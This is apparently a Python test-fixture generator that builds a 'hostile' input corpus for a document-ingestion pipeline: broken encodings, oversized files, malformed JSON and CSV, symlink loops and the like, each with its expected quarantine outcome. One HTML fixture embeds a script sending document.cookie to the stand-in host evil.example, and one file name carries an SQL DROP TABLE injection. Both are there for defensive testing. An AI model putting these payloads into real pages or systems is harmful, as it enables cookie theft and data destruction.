"""Generate the hostile input corpus: files that real feeds produce by accident or on purpose.

    python tests/hostile/make_hostile.py [DEST]      # default: tests/hostile/corpus/ (gitignored)

`build(dest)` writes the files and returns, per file (path relative to `dest`), what the pipeline must make of
it: for each record index, "doc" or the quarantine reason code; or a discover-stage reason for a file that
cannot be opened at all; plus strings its documents must or must not contain. Nothing large is committed: the
50 MB file and the 1M-character line are written here, deterministically (fixed seeds, no clock).
"""

from __future__ import annotations

import gzip
import io
import json
import os
import random
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

DOC = "doc"
BIG_BYTES = 50 * 1024 * 1024
MAX_DOC_CHARS = 1_000_000  # the default limit the corpus is built around


@dataclass(frozen=True)
class Expect:
    """What must become of one hostile file.

    records:   record_index -> DOC or the reason_code of its quarantine row (every record the file yields)
    discover:  reason_code of a file rejected before it is read (it then has no records)
    contains:  strings that must appear in the file's documents' text
    lacks:     strings that must not appear in them
    lang:      expected language of every document of the file
    """

    records: dict[int, str] = field(default_factory=dict)
    discover: str | None = None
    contains: tuple[str, ...] = ()
    lacks: tuple[str, ...] = ()
    lang: str | None = None


def article(marker: str, n_paragraphs: int = 3) -> str:
    """A plain ASCII news-like text; `marker` makes it unique and findable."""
    paras = [
        f"{marker} The city council met on Tuesday to discuss the new budget for public transport and schools.",
        "Officials said the plan would add twelve bus routes and repair three bridges before the winter season.",
        "Residents who spoke at the meeting asked for more frequent service in the northern districts of town.",
        "The mayor told reporters that the vote would take place next month after a final round of consultations.",
    ]
    return "\n\n".join([*paras[: max(1, n_paragraphs)], f"Reporting for {marker} ended here."])


ARABIC = (
    "قال الرئيس السوري بشار الأسد يوم الخميس إن بلاده ترحب بأي مقترحات روسية لإنشاء قواعد عسكرية جديدة "
    "أو زيادة عدد القوات الروسية في سوريا. وأضاف أن الوجود العسكري الروسي في أي بلد لا ينبغي أن يكون مؤقتا."
)
CYRILLIC = (
    "Президент Сирии Башар Асад заявил в четверг, что Дамаск приветствовал бы любые предложения России о "
    "создании новых военных баз или увеличении численности российских войск в Сирии. Он добавил, что военное "
    "присутствие России не должно быть временным."
)
CHINESE = (
    "叙利亚总统巴沙尔·阿萨德周四在莫斯科表示，大马士革欢迎俄罗斯提出的任何在叙利亚建立新军事基地或增加驻军人数的建议。"
    "他说，俄罗斯在任何国家的军事存在都不应该是暂时的。"
)
INVISIBLE = "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"


def _write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _words_line(n_chars: int, seed: int) -> str:
    """One line of exactly `n_chars` characters: lowercase words separated by single spaces."""
    rng = random.Random(seed)
    vocab = ["the", "of", "and", "to", "in", "a", "is", "that", "for", "it", "as", "was", "with", "by", "on"]
    parts: list[str] = []
    size = 0
    while size < n_chars:
        w = rng.choice(vocab)
        parts.append(w)
        size += len(w) + 1
    return " ".join(parts)[:n_chars].rstrip().ljust(n_chars, "x")


def _truncated_gzip(lines: list[bytes]) -> tuple[bytes, int]:
    """gzip of `lines` cut mid-stream, and how many whole lines its readable prefix holds."""
    full = gzip.compress(b"".join(lines), mtime=0)
    cut = full[: len(full) * 3 // 5]
    readable = zlib.decompressobj(wbits=31).decompress(cut)
    return cut, readable.count(b"\n")


def build(dest: Path, big_bytes: int = BIG_BYTES) -> dict[str, Expect]:
    """Write the hostile corpus under `dest`; returns {relative path: Expect}."""
    dest.mkdir(parents=True, exist_ok=True)
    ex: dict[str, Expect] = {}
    rng = random.Random(8)

    def put(name: str, data: bytes | str, expect: Expect) -> None:
        _write(dest / name, data)
        ex[name] = expect

    # --- empty, blank and binary -----------------------------------------------------------------------
    put("empty.txt", b"", Expect({0: "empty_file"}))
    put("whitespace only.txt", " \n\t\r\n   \n\u3000\n", Expect({0: "empty_text"}))
    put("binary.txt", b"\x7fELF\x02\x01\x01\x00" + rng.randbytes(4096), Expect({0: "binary_content"}))
    put("unknown.bin", article("Unknown extension"), Expect({0: "unsupported_format"}))

    # --- encodings --------------------------------------------------------------------------------------
    put(
        "invalid_utf8.txt",
        article("Invalid bytes").encode() + b"\n\nBroken \xff\xfe\x81 bytes end this line.\n",
        Expect({0: DOC}, contains=("Invalid bytes The city council met",)),
    )
    put("utf16_bom.txt", article("Sixteen with mark").encode("utf-16"), Expect({0: DOC}, contains=("Sixteen with",)))
    put("utf16_nobom.txt", article("Sixteen no mark").encode("utf-16-le"), Expect({0: DOC}, contains=("Sixteen no",)))
    put("utf32_bom.txt", article("Thirty-two wide").encode("utf-32"), Expect({0: DOC}, contains=("Thirty-two",)))
    cp = "Café owners in Zürich said “the rent is too high” – and asked for help. " + article("Windows page")
    put(
        "cp1252.txt",
        cp.encode("cp1252"),
        Expect({0: DOC}, contains=("Café owners in Zürich", "“the rent is too high”")),
    )
    moji = "It’s déjà vu for the café — owners said. " + article("Mojibake repair")
    put(
        "mojibake.txt",
        moji.encode("utf-8").decode("cp1252", errors="replace").encode("utf-8"),
        Expect({0: DOC}, contains=("It’s déjà vu for the café — owners",), lacks=("Ã", "â€")),
    )

    # --- size -------------------------------------------------------------------------------------------
    chunk = (article("Fifty megabytes") + "\n\n").encode()
    with open(dest / "huge 50MB.txt", "wb") as fh:
        written = 0
        while written < big_bytes:
            fh.write(chunk)
            written += len(chunk)
    ex["huge 50MB.txt"] = Expect({0: "document_too_large"})
    put("one line 1M chars.txt", _words_line(MAX_DOC_CHARS, 1), Expect({0: DOC}))
    put("one line over limit.txt", _words_line(MAX_DOC_CHARS + 1, 2), Expect({0: "document_too_large"}))

    # --- HTML -------------------------------------------------------------------------------------------
    body = "".join(f"<p>{p}</p>" for p in article("Script laden page", 4).split("\n\n"))
    put(
        "script laden.html",
        "<!DOCTYPE html><html><head><title>Council budget vote</title>"
        '<meta http-equiv="refresh" content="0;url=http://evil.example/redirect">'
        '<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/style.css">'
        "<script>alert('pwned'); fetch('http://evil.example/steal?c=' + document.cookie)</script>"
        "<style>body { background: url(http://evil.example/bg.png) }</style></head><body>"
        '<iframe src="http://evil.example/frame"></iframe><img src="http://evil.example/pixel.gif" '
        "onerror=\"alert('img')\"><article>"
        f"{body}</article><script src='http://evil.example/x.js'></script>"
        '<object data="http://evil.example/o.swf"></object></body></html>',
        Expect({0: DOC}, contains=("Script laden page",), lacks=("alert(", "evil.example", "pwned", "document.cookie")),
    )
    put(
        "only scripts.html",
        "<html><head><script>var a = 1;</script></head><body><script>document.write('x')</script></body></html>",
        Expect({0: "html_no_main_text"}),
    )
    deep_text = "".join(f"<p>{p}</p>" for p in article("Deeply nested page", 4).split("\n\n"))
    put(
        "deeply nested.html",
        "<html><body>" + "<div>" * 20_000 + deep_text + "</div>" * 20_000 + "</body></html>",
        # lxml stops building the tree at its depth limit, so no main text is found: quarantined, not a crash
        Expect({0: "html_no_main_text"}),
    )
    put(
        "malformed.html",
        b"<html><body><p>Unclosed <b><i>tags here " + b"<" * 5000,
        Expect({0: DOC}, contains=("Unclosed tags here",)),
    )

    # --- JSON lines ----------------------------------------------------------------------------------------
    good = lambda m: json.dumps({"title": f"Title {m}", "text": article(m), "url": f"https://news.example/{m}"})  # noqa: E731
    jsonl = [
        good("Good line zero"),
        '{"title": "broken", "text": "no closing quote}',
        good("Good line two"),
        "[1, 2, 3]",
        "",
        json.dumps({"title": "no text field"}),
        json.dumps({"text": "   \n  "}),
        json.dumps({"text": 12345}),
        json.dumps({"text": article("Invisible\u200b chars\u202e line")}),
        "[" * 100_000 + "]" * 100_000,
        json.dumps({"text": article("Lone surrogate") + " \ud800 end."}),
        json.dumps({"text": "x" * (MAX_DOC_CHARS + 10)}),
        json.dumps({"text": article("Good line twelve"), "title": {"nested": ["odd", "title"]}, "published_at": 7}),
    ]
    put(
        "mixed lines.jsonl",
        "\n".join(jsonl) + "\n",
        Expect(
            {
                0: DOC,
                1: "malformed_json",
                2: DOC,
                3: "malformed_json",
                5: "missing_text_field",
                6: "empty_text",
                7: "missing_text_field",
                8: DOC,
                9: "malformed_json",
                10: DOC,
                11: "document_too_large",
                12: DOC,
            },
            contains=("Good line zero", "Good line two", "Invisible chars line", "Lone surrogate", "Good line twelve"),
            lacks=("\ud800", "\u200b", "\u202e"),
        ),
    )
    gz_lines = [
        (json.dumps({"text": article(f"Gzip line {i}") + " " + rng.randbytes(1500).hex()}) + "\n").encode()
        for i in range(8)
    ]
    cut, n_whole = _truncated_gzip(gz_lines)
    assert 1 <= n_whole < len(gz_lines)
    put(
        "truncated.jsonl.gz",
        cut,
        Expect({**{i: DOC for i in range(n_whole)}, n_whole: "truncated_gzip"}, contains=("Gzip line 0",)),
    )
    put("not gzip.jsonl.gz", good("Not gzip") + "\n", Expect({0: "corrupt_gzip"}))

    # --- CSV --------------------------------------------------------------------------------------------------
    put("no text column.csv", "id,headline\n1,Council votes\n2,Budget passes\n", Expect({0: "missing_text_column"}))
    buf = io.StringIO()
    import csv

    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["title", "text", "url"])
    w.writerow(["Row zero", article('CSV row zero "quoted"'), "https://news.example/0"])
    w.writerow(["Row one", article("CSV row one,\nwith a comma and a newline"), "https://news.example/1"])
    buf.write("Row two has too few fields\r\n")
    w.writerow(["Row three", "", "https://news.example/3"])
    w.writerow(["Row four", article("CSV row four"), "https://news.example/4", "an extra field"])
    put(
        "embedded newlines.csv",
        buf.getvalue(),
        Expect(
            {0: DOC, 1: DOC, 2: "malformed_csv", 3: "empty_text", 4: DOC},
            contains=('CSV row zero "quoted"', "CSV row one,", "CSV row four"),
        ),
    )

    # --- Parquet ----------------------------------------------------------------------------------------------
    wrong = pa.table({"id": pa.array([1, 2], pa.int64()), "body": pa.array([10, 20], pa.int64())})
    pq.write_table(wrong, dest / "wrong schema.parquet")
    ex["wrong schema.parquet"] = Expect({0: "wrong_schema"})
    put("corrupt.parquet", b"PAR1" + rng.randbytes(2048) + b"PAR1", Expect({0: "corrupt_parquet"}))
    okp = pa.table(
        {
            "text": pa.array([article("Parquet row zero"), None, article("Parquet row two")], pa.string()),
            "title": pa.array(["P0", "P1", "P2"], pa.string()),
        }
    )
    pq.write_table(okp, dest / "good.parquet")
    ex["good.parquet"] = Expect({0: DOC, 1: "empty_text", 2: DOC}, contains=("Parquet row zero", "Parquet row two"))

    # --- invisible characters, other scripts, boilerplate ----------------------------------------------
    put(
        "invisible.txt",
        "Pre\u200bsi\u200ddent\u202e said\u2066 the\u200f vote\ufeff passed. " + article("Zero width"),
        Expect({0: DOC}, contains=("President said the vote passed.",), lacks=tuple(INVISIBLE)),
    )
    put("invisible only.txt", INVISIBLE * 40, Expect({0: "empty_after_normalize"}))
    put("boilerplate only.txt", "Share it...\n\nLeave a Reply\n\n12\n", Expect({0: "empty_after_normalize"}))
    put("two words.txt", "Hello world", Expect({0: "dq_out_of_range_n_words"}))
    put("arabic.txt", ARABIC, Expect({0: DOC}, contains=("بشار الأسد",), lang="ar"))
    put("cyrillic.txt", CYRILLIC, Expect({0: DOC}, contains=("Башар Асад",), lang="ru"))
    put("chinese.txt", CHINESE, Expect({0: DOC}, contains=("巴沙尔",), lang="zh"))
    put(
        "markdown links.md",
        "# Markdown headline about the council\n\n"
        + article("Markdown body")
        + "\n\n![pixel](http://evil.example/p.gif) See [the report](http://evil.example/r).\n",
        Expect({0: DOC}, contains=("Markdown body", "See the report."), lacks=("evil.example",)),
    )

    # --- awkward names --------------------------------------------------------------------------------------
    for i, name in enumerate(
        [
            "name with spaces.txt",
            "ünïcödé ñame – 記事.txt",
            'quote\'s "double" `back`.txt',
            "x'); DROP TABLE documents; --.md",
        ]
    ):
        put(name, article(f"Awkward name {i}"), Expect({0: DOC}, contains=(f"Awkward name {i}",)))

    # --- unreadable files and symlink loops ----------------------------------------------------------------------
    put("unreadable.txt", article("Mode zero"), Expect())
    os.chmod(dest / "unreadable.txt", 0)
    # root ignores file modes: then the file is read like any other; otherwise it is refused at discovery
    ex["unreadable.txt"] = (
        Expect({0: DOC}, contains=("Mode zero",))
        if _can_read(dest / "unreadable.txt")
        else Expect(discover="unreadable_file")
    )
    for a, b in (("loop_a.txt", "loop_b.txt"), ("loop_b.txt", "loop_a.txt")):
        (dest / a).symlink_to(b)
        ex[a] = Expect(discover="unreadable_file")
    (dest / "dangling.txt").symlink_to("nowhere.txt")
    ex["dangling.txt"] = Expect(discover="unreadable_file")
    put("sub dir/inside.md", "# Inside a looped directory\n\n" + article("Inside sub dir"), Expect({0: DOC}))
    (dest / "sub dir" / "loop").symlink_to("..", target_is_directory=True)  # never followed
    # reading these would block (FIFO) or never end (/dev/zero)
    os.mkfifo(dest / "feed.txt")
    ex["feed.txt"] = Expect(discover="not_a_regular_file")
    (dest / "zero.txt").symlink_to("/dev/zero")
    ex["zero.txt"] = Expect(discover="not_a_regular_file")
    # a Latin-1 byte in a file name: not valid UTF-8, so it could not be stored; keyed by its escaped form
    (dest / os.fsdecode(b"latin1 caf\xe9.txt")).write_text(article("Latin-1 name"), encoding="utf-8")
    ex["latin1 caf\\xe9.txt"] = Expect(discover="bad_file_name")
    return ex


def _can_read(path: Path) -> bool:
    try:
        with open(path, "rb") as fh:
            fh.read(1)
        return True
    except OSError:
        return False


def main(argv: list[str]) -> None:
    dest = Path(argv[1]) if len(argv) > 1 else Path(__file__).with_name("corpus")
    if dest.exists() and any(dest.iterdir()):
        sys.exit(f"{dest} is not empty; remove it first")
    ex = build(dest)
    print(f"wrote {len(ex)} hostile files to {dest}")


if __name__ == "__main__":
    main(sys.argv)
